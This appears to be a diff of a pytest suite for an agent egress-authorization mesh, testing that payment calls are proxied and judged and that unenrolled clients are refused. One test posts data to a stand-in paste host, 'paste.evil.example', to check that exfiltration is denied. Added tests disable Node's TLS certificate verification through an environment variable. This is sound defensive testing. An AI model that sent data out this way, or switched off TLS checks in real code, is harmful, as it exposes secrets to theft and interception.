@@ -21,6 +21,7 @@ from aegis_authz.demo.run import agent_of
 from aegis_authz.local.mesh_facts import read_facts
 from sdk.node.tests.conftest import OpenPlayer, Player
 from tests.support.agent_mesh import AGENT, new_key, small_mesh
+from tests.support.authority import Authority
 
 pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]
 
@@ -28,6 +29,12 @@ PAYMENTS = "http://api.stripe.example/v1/payments"
 FINANCE = "acme/emea/finance-agent"
 AMOUNTS = count(7500)
 """Of calls that are held: an approval is for one."""
+INTENTS = "https://api.stripe.com/v1/payment_intents"
+FORM = {
+    "method": "POST",
+    "headers": {"content-type": "application/x-www-form-urlencoded"},
+    "body": "amount=4200&currency=eur",
+}
 NOWHERE = "http://127.0.0.1:1"
 PROXY_VARIABLES = ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy")
 
@@ -122,9 +129,27 @@ async def test_a_tool_of_the_reverse_routes_is_called_without_the_proxy(player: 
     assert (await player.post(f"{url}/v1/payments", {"amount": 50000, "payee": "ACME"}))["error"] == "AegisDenied"
 
 
-async def test_https_is_opened_by_the_mesh_and_judged(player: Player, mesh: DemoMesh) -> None:
+async def test_https_is_opened_by_the_mesh_and_judged(player: Player, mesh: DemoMesh, open_player: OpenPlayer) -> None:
     denied = await player.post("https://paste.evil.example/", {"a": 1})
     assert (denied["error"], denied["reason"]) == ("AegisDenied", "EGRESS_DENIED")
+    # the environment can turn verification off for Node, and so neither proves nor spoils anything here
+    async with open_player({**of_mesh(mesh, "books-agent"), "NODE_TLS_REJECT_UNAUTHORIZED": "0"}) as books:
+        answers = [await books.play("fetch", url=INTENTS, init=FORM) for _ in range(2)]
+    assert [answer["status"] for answer in answers] == [200, 200]
+    assert mesh.tools.received["/v1/payment_intents"]["body"] == FORM["body"]
+
+
+async def test_who_is_not_the_mesh_is_shown_nothing(mesh: DemoMesh, open_player: OpenPlayer, tmp_path: Path) -> None:
+    facts, agent = read_facts(mesh.state), "acme/emea/books-agent"
+    secret = (mesh.state / "agents" / agent / "key.pem").read_bytes()
+    folder = enrolled(tmp_path, agent, f"{facts.control}/v1/token", facts.proxy, secret, str(Authority(tmp_path).file))
+    mesh.tools.received.pop("/v1/payment_intents", None)
+    environment = {"AEGIS_AGENT_FOLDER": str(folder), "NODE_TLS_REJECT_UNAUTHORIZED": "0"}
+    async with open_player(environment) as player:
+        answer = await player.play("fetch", url=INTENTS, init=FORM)
+    assert answer["error"] == "AegisUnavailable"
+    assert "certificate" in answer["message"]
+    assert "/v1/payment_intents" not in mesh.tools.received
 
 
 @pytest.mark.parametrize(
@@ -173,9 +198,9 @@ async def test_hops_and_tries_have_proofs_of_their_own_and_the_environment_leads
     assert len({passed["headers"]["x-aegis-proof"] for passed in mesh.passed}) == len(targets) == 4
 
 
-def enrolled(folder: Path, agent: str, token_endpoint: str, proxy: str, secret: bytes) -> Path:
+def enrolled(folder: Path, agent: str, token_endpoint: str, proxy: str, secret: bytes, authorities: str = "") -> Path:
     """A folder of an agent, as enrolment writes it."""
-    write_enrolment(folder, Enrolment(agent, token_endpoint, "aegis", "mesh", proxy, "", ""))
+    write_enrolment(folder, Enrolment(agent, token_endpoint, "aegis", "mesh", proxy, "", authorities))
     key = folder / "key.pem"
     key.touch(0o600)
     key.write_bytes(secret)
